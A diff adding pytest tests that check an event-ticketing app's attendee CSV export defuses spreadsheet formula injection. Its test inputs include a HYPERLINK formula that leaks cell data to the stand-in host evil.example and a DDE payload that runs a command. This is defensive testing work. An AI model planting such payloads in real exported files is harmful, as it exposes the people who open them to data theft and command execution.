@@ -71,6 +71,38 @@ def test_attendees_json_and_csv(sold_event):
     assert all(len(row["code"]) >= 22 for row in rows)
 
 
+@pytest.mark.parametrize(
+    "name",
+    [
+        '=HYPERLINK("http://evil.example/?leak="&A1,"Click")',
+        "+1+cmd|' /C calc'!A0",
+        "-2+3",
+        "@SUM(A1:A9)",
+        "\tx",
+        "\rx",
+    ],
+)
+def test_attendee_csv_neutralises_spreadsheet_formulas(event, tier, name):
+    free = TicketTypeFactory(event=event, name="=1+1", price_cents=0, capacity=5)
+    mallory = UserFactory(name=name, email="mallory@example.com")
+    order_place(buyer=mallory, event_id=event.pk, lines=[Line(free.pk, 1)])
+    r = as_user(event.organizer.user).get(f"/api/v1/events/{event.pk}/attendees", {"format": "csv"})
+    (row,) = csv.DictReader(io.StringIO(b"".join(r.streaming_content).decode(), newline=""))
+    assert row["name"] == f"'{name}"
+    assert row["ticket_type"] == "'=1+1"
+    assert row["email"] == "mallory@example.com"  # ordinary text is left alone
+    # and the JSON list, which no spreadsheet opens, shows the name as it is
+    assert (
+        as_user(event.organizer.user).get(f"/api/v1/events/{event.pk}/attendees").json()["results"][0]["name"] == name
+    )
+
+
+def test_ticket_codes_never_start_like_a_formula():
+    from orders.models import new_ticket_code
+
+    assert not any(new_ticket_code().startswith("-") for _ in range(5000))
+
+
 def test_reports_are_for_the_owner_and_admins_only(sold_event):
     event, _, _ = sold_event
     draft = EventFactory(organizer=event.organizer)
